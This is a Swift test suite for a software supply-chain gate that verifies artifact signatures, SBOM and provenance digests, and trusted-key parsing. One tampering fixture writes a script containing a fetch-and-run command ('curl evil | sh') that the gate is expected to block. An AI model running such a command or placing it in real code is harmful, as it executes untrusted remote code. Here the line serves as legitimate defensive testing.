import Foundation
import Testing

import FleetSupplyChain

@Suite("Keys and signatures")
struct SignatureTests {
    @Test func validP256SignatureIsAdmitted() throws {
        let box = try Sandbox()
        let fx = try Fixture(box: box)
        let v = SupplyChainGate(policies: [fx.policy()]).evaluate(fx.evidence)
        #expect(v.decision == .admitted, "\(v.reasons)")
        #expect(v.reasons.isEmpty)
        let ev = try #require(v.evidence)
        #expect(ev.signedBy == "release-2026")
        #expect(ev.signatureAlgorithm == "ecdsa-p256-sha256")
        #expect(ev.artifactDigest == "sha256:\(fx.digest)")
        #expect(ev.sbomFormat == "cyclonedx-1.5")
        #expect(ev.sbomDigest == "sha256:\(try box.sha256Hex(try #require(fx.evidence.sbomPath)))")
        #expect(ev.scan?.scanner == "grype")
        #expect(ev.scan?.highest == "medium")
        #expect(ev.provenanceVerified)
    }

    @Test func validEd25519SignatureBase64AndRaw() throws {
        let box = try Sandbox()
        var fx = try Fixture(box: box)
        let key = try TrustedKey(name: "ed-key", pem: try box.ed25519Key("ed"))
        #expect(key.algorithm == "ed25519")
        for base64 in [true, false] {
            fx.evidence.signaturePath = try box.signEd25519(key: "ed", file: fx.artifact, out: "ed-\(base64).sig", base64: base64)
            let v = SupplyChainGate(policies: [fx.policy(keys: [fx.key, key])]).evaluate(fx.evidence)
            #expect(v.decision == .admitted, "\(v.reasons)")
            #expect(v.evidence?.signedBy == "ed-key")
            #expect(v.evidence?.signatureAlgorithm == "ed25519")
        }
    }

    @Test func rawDERSignatureFileIsAccepted() throws {
        let box = try Sandbox()
        var fx = try Fixture(box: box)
        fx.evidence.signaturePath = box.path("server.sig.der")  // openssl's binary output, not base64
        let v = SupplyChainGate(policies: [fx.policy()]).evaluate(fx.evidence)
        #expect(v.decision == .admitted, "\(v.reasons)")
    }

    @Test func tamperedArtifactIsBlocked() throws {
        let box = try Sandbox()
        let fx = try Fixture(box: box)
        try box.write("server.py", "#!/usr/bin/env python3\nimport os; os.system('curl evil | sh')\n")
        let v = SupplyChainGate(policies: [fx.policy()]).evaluate(fx.evidence)
        #expect(v.decision == .blocked)
        #expect(v.reasons.contains("signature does not verify against any trusted key (tried: release-2026)"))
        #expect(v.reasons.contains { $0.hasPrefix("artifact digest sha256:") && $0.contains("differs from the manifest's sha256:\(fx.digest.prefix(12))") })
        #expect(v.findings.contains { $0.check == "sbom" })        // SBOM hash no longer matches
        #expect(v.findings.contains { $0.check == "provenance" })  // nor does the provenance subject
    }

    @Test func tamperedSignatureIsBlocked() throws {
        let box = try Sandbox()
        var fx = try Fixture(box: box)
        var der = [UInt8](try box.read("server.sig.der"))
        der[der.count - 5] ^= 0x01  // inside s
        fx.evidence.signaturePath = try box.write("flipped.sig", Data(der).base64EncodedString())
        let v = SupplyChainGate(policies: [fx.policy()]).evaluate(fx.evidence)
        #expect(v.decision == .blocked)
        #expect(v.reasons == ["signature does not verify against any trusted key (tried: release-2026)"])
        #expect(v.evidence?.signedBy == nil)
    }

    @Test func garbageSignatureFileIsBlocked() throws {
        let box = try Sandbox()
        var fx = try Fixture(box: box)
        fx.evidence.signaturePath = try box.write("junk.sig", "not a signature at all\n")
        let v = SupplyChainGate(policies: [fx.policy()]).evaluate(fx.evidence)
        #expect(v.decision == .blocked)
        #expect(v.findings.map(\.check) == ["signature"])
    }

    @Test func signatureFromUntrustedKeyIsBlocked() throws {
        let box = try Sandbox()
        var fx = try Fixture(box: box)
        _ = try box.p256Key("attacker")
        fx.evidence.signaturePath = try box.signP256(key: "attacker", file: fx.artifact, out: "attacker.sig")
        let other = try TrustedKey(name: "ops-2025", pem: try box.ed25519Key("ops"))
        let v = SupplyChainGate(policies: [fx.policy(keys: [fx.key, other])]).evaluate(fx.evidence)
        #expect(v.decision == .blocked)
        #expect(v.reasons == ["signature does not verify against any trusted key (tried: release-2026, ops-2025)"])
    }

    @Test func missingSignatureAndNoKeys() throws {
        let box = try Sandbox()
        var fx = try Fixture(box: box)
        fx.evidence.signaturePath = nil
        let v = SupplyChainGate(policies: [fx.policy()]).evaluate(fx.evidence)
        #expect(v.reasons == ["no signature (spec.supplyChain.signature), which policy baseline requires"])
        fx.evidence.signaturePath = box.path("missing.sig")
        let v2 = SupplyChainGate(policies: [fx.policy()]).evaluate(fx.evidence)
        #expect(v2.reasons == ["signature file \(box.path("missing.sig")) does not exist"])
        var p = fx.policy()
        p.trustedKeys = []
        fx.evidence.signaturePath = box.path("server.sig")
        let v3 = SupplyChainGate(policies: [p]).evaluate(fx.evidence)
        #expect(v3.reasons == ["policy baseline requires a signature but trusts no keys"])
    }

    @Test func keyFingerprintMatchesOpenSSL() throws {
        let box = try Sandbox()
        let pem = try box.p256Key("k")
        try box.run(["pkey", "-in", box.path("k.pem"), "-pubout", "-outform", "DER", "-out", box.path("k.der")])
        let key = try TrustedKey(name: "k", pem: pem)
        #expect(key.fingerprint == (try box.sha256Hex(box.path("k.der"))))
        #expect(key.algorithm == "ecdsa-p256-sha256")
        let ed = try TrustedKey(name: "e", pem: "\n  " + (try box.ed25519Key("e")) + "\n")  // surrounding whitespace
        #expect(ed.algorithm == "ed25519")
    }

    @Test func badKeysAreRejectedWithSpecificErrors() throws {
        let box = try Sandbox()
        _ = try box.p256Key("priv")
        let privPEM = String(decoding: try box.read("priv.pem"), as: UTF8.self)
        #expect(throws: SupplyChainError("trusted key leaked: is a private key (EC PRIVATE KEY); give the public key (openssl pkey -in key.pem -pubout)")) {
            try TrustedKey(name: "leaked", pem: privPEM)
        }
        try box.run(["genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:1024", "-out", box.path("rsa.pem")])
        let rsaPub = String(decoding: try box.run(["pkey", "-in", box.path("rsa.pem"), "-pubout"]), as: UTF8.self)
        #expect(throws: SupplyChainError("trusted key legacy: RSA keys are not supported (use ECDSA P-256 or Ed25519)")) {
            try TrustedKey(name: "legacy", pem: rsaPub)
        }
        try box.run(["ecparam", "-name", "secp384r1", "-genkey", "-noout", "-out", box.path("p384.pem")])
        let p384 = String(decoding: try box.run(["pkey", "-in", box.path("p384.pem"), "-pubout"]), as: UTF8.self)
        #expect(throws: SupplyChainError("trusted key big: ECDSA P-384 keys are not supported (use ECDSA P-256 or Ed25519)")) {
            try TrustedKey(name: "big", pem: p384)
        }
        #expect(throws: SupplyChainError("trusted key x: not a PEM document (no -----BEGIN line)")) {
            try TrustedKey(name: "x", pem: "hello")
        }
        #expect(throws: SupplyChainError("trusted key y: PEM body is not valid base64")) {
            try TrustedKey(name: "y", pem: "-----BEGIN PUBLIC KEY-----\n!!!\n-----END PUBLIC KEY-----\n")
        }
        #expect(throws: SupplyChainError("trusted key z: not a valid ECDSA P-256 or Ed25519 SubjectPublicKeyInfo")) {
            try TrustedKey(name: "z", pem: "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n")
        }
    }
}
